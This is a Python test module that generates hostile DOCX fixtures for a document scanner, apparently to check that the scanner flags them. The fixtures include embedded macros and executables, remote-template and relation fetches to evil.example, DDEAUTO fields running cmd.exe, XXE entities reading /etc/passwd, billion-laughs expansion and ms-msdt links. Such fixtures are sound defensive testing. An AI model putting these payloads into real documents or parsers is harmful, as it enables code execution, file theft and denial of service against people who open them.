"""DOCX files that run, fetch or hide something."""

from collections.abc import Iterator

from tests.documents.hostile.building import Case, archive, case, docx, honest_parts, pdf, relation, written

NAME = "resume.docx"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    + "]>"
)
RUN = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"


def field(*orders: str) -> str:
    """A field whose order stands in one run or in several."""
    return RUN.format(
        "".join(f"<w:r><w:instrText xml:space='preserve'>{order}</w:instrText></w:r>" for order in orders)
    )


def declared(kind: str) -> dict[str, bytes]:
    types = honest_parts()["[Content_Types].xml"].decode()
    added = f'<Override PartName="/word/a" ContentType="{kind}"/></Types>'
    return {"[Content_Types].xml": types.replace("</Types>", added).encode()}


def list_parts() -> Iterator[Case]:
    runs, inside = ("active_content", "type_not_accepted"), ("nested_too_deep", "active_content")
    parts = {
        "macros": {"word/vbaProject.bin": OLE},
        "macros-elsewhere": {"word/x/VBAPROJECT.BIN": OLE},
        "macro-data": {"word/vbaData.xml": b"<a/>"},
        "control": {"word/activeX/activeX1.xml": b"<a/>"},
        "control-data": {"word/activeX/activeX1.bin": OLE},
        "object": {"word/embeddings/oleObject1.bin": OLE},
        "object-by-content": {"word/media/image9.png": OLE},
        "program": {"word/media/image9.png": b"MZ" + bytes(99)},
        "linux-program": {"word/media/a.dat": b"\x7fELF" + bytes(99)},
        "shell": {"word/a.sh": b"#!/bin/sh"},
        "script": {"word/a.js": b"alert(1)"},
        "page": {"word/a.html": b"<html>"},
        "help": {"word/a.hta": b"<html>"},
        "shortcut": {"word/a.lnk": b"L\0\0\0"},
    }
    for name, part in parts.items():
        yield case(f"docx-{name}", lambda part=part: docx(part), *runs, filename=NAME)
    files = {
        "zip": "a.zip",
        "docx": "a.docx",
        "sheet": "embeddings/a.xlsx",
        "rar": "a.rar",
        "7z": "a.7z",
        "mail": "a.eml",
        "pdf": "a.pdf",
    }
    for name, path in files.items():
        yield case(
            f"docx-in-it-{name}", lambda path=path: docx({f"word/{path}": b"x"}), *inside, filename=NAME
        )
    starts = {
        "zip": archive({"a": b"a"}),
        "pdf": pdf(),
        "gzip": b"\x1f\x8b\x08" + bytes(9),
        "rtf": b"{\\rtf1 x}",
        "deep": archive({"a.zip": archive({"b.zip": docx()})}),
    }
    for name, data in starts.items():
        yield case(
            f"docx-hides-{name}", lambda data=data: docx({"word/media/a.dat": data}), *inside, filename=NAME
        )
    for at, kind in enumerate(
        (
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            "application/vnd.ms-office.vbaProject",
            "application/vnd.ms-office.activeX+xml",
            "application/vnd.openxmlformats-officedocument.oleObject",
        )
    ):
        yield case(
            f"docx-declares-{at}", lambda kind=kind: docx(declared(kind)), "active_content", filename=NAME
        )
    yield case(
        "docx-drawing-script",
        lambda: docx({"word/media/a.svg": b"<svg xmlns='s'><script>1</script></svg>"}),
        "active_content",
        filename=NAME,
    )
    yield case(
        "docx-drawing-event",
        lambda: docx({"word/media/a.svg": b"<svg onload='x'/>"}),
        "active_content",
        filename=NAME,
    )
    yield case(
        "docx-page-as-picture",
        lambda: docx({"word/media/a.png": b"<html><script>x</script>"}),
        "disguised",
        filename=NAME,
    )


def list_relations() -> Iterator[Case]:
    out = "active_content"
    targets = (
        "http://evil.example/t.dotm",
        "https://evil.example/t.dotm",
        "\\\\evil\\share\\t.dotm",
        "file://evil/share/t.dotm",
        "ftp://evil/t.dotm",
    )
    for at, target in enumerate(targets):
        yield case(
            f"docx-template-{at}",
            lambda target=target: docx(relation("attachedTemplate", target)),
            out,
            filename=NAME,
        )
    for kind in (
        "image",
        "oleObject",
        "subDocument",
        "frame",
        "aFChunk",
        "package",
        "video",
        "settings",
        "externalLink",
    ):
        yield case(
            f"docx-fetches-{kind}",
            lambda kind=kind: docx(relation(kind, "http://evil.example/x")),
            out,
            filename=NAME,
        )
    for kind in ("vbaProject", "control", "aFChunk", "oleObject", "subDocument"):
        yield case(
            f"docx-refers-{kind}",
            lambda kind=kind: docx(relation(kind, "a.bin", external=False)),
            out,
            filename=NAME,
        )
    for at, target in enumerate(
        (
            "javascript:alert(1)",
            "file:///etc/passwd",
            "\\\\evil\\share",
            "vbscript:x",
            "data:text/html,x",
            "mhtml:http://evil/x",
            "ms-msdt:/id x",
            "search-ms:query=x",
        )
    ):
        yield case(
            f"docx-link-{at}", lambda target=target: docx(relation("hyperlink", target)), out, filename=NAME
        )


def list_fields() -> Iterator[Case]:
    orders = {
        "dde": ["DDE cmd '/c calc'"],
        "dde-auto": [r"DDEAUTO c:\\windows\\system32\\cmd.exe '/k calc'"],
        "dde-split": ["DD", "EAU", "TO c:\\\\x"],
        "dde-low": [" ddeauto x y "],
        "dde-numbers": ["QUOTE 68 68 69 65 85 84 79"],
        "text-from-elsewhere": ["INCLUDETEXT 'http://evil.example/a.docx'"],
        "picture-from-elsewhere": ["INCLUDEPICTURE 'http://evil.example/a.png' \\d"],
        "link": ["LINK Excel.Sheet 'http://evil.example/a.xls'"],
        "document": ["RD http://evil.example/a.docx"],
        "macro": ["MACROBUTTON EvilMacro press here"],
    }
    for name, order in orders.items():
        yield case(
            f"docx-field-{name}",
            lambda order=order: docx(written(field(*order))),
            "active_content",
            filename=NAME,
        )
    simple = "<w:p><w:fldSimple w:instr='DDEAUTO cmd calc'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    yield case("docx-field-simple", lambda: docx(written(simple)), "active_content", filename=NAME)
    space = (
        honest_parts()["word/document.xml"].decode().partition("<w:body>")[0].replace("w:document", "w:hdr")
    )
    head = f"{space}{field('DDEAUTO cmd calc')}</w:hdr>".encode()
    yield case(
        "docx-field-in-header", lambda: docx({"word/header1.xml": head}), "active_content", filename=NAME
    )


def list_markup() -> Iterator[Case]:
    bad = ("unpacks_too_large", "damaged")
    markup = {
        "laughs": (LAUGHS + "<a>&a9;</a>").encode(),
        "quadratic": (
            '<!DOCTYPE a [<!ENTITY b "' + "x" * 50_000 + '">]><a>' + "&b;" * 5000 + "</a>"
        ).encode(),
        "thief": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "caller": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        "parameter": b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/b"> %b;]><a/>',
        "wide": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode(
            "utf-16"
        ),
        "unknown-letters": b'<?xml version="1.0" encoding="x-evil"?><a/>',
        "open": b"<a><b></a>",
        "noise": bytes(range(256)),
    }
    for name, data in markup.items():
        for part in (
            "word/document.xml",
            "word/_rels/document.xml.rels",
            "[Content_Types].xml",
            "docProps/custom.xml",
        ):
            yield case(
                f"docx-xml-{name}-{part}",
                lambda part=part, data=data: docx({part: data}),
                *bad,
                filename=NAME,
            )
    for depth in (260, 100_000):
        yield case(
            f"docx-deep-{depth}",
            lambda depth=depth: docx({"word/a.xml": b"<a>" * depth + b"</a>" * depth}),
            "nested_too_deep",
            filename=NAME,
        )
    yield case(
        "docx-many-elements",
        lambda: docx({"word/a.xml": b"<a>" + b"<b/>" * 500_001 + b"</a>"}),
        *bad,
        filename=NAME,
    )
    long = "<w:p><w:r><w:t>" + "word " * 100_001 + "</w:t></w:r></w:p>"
    yield case("docx-many-pages", lambda: docx(written(long)), "too_many_pages", filename=NAME)
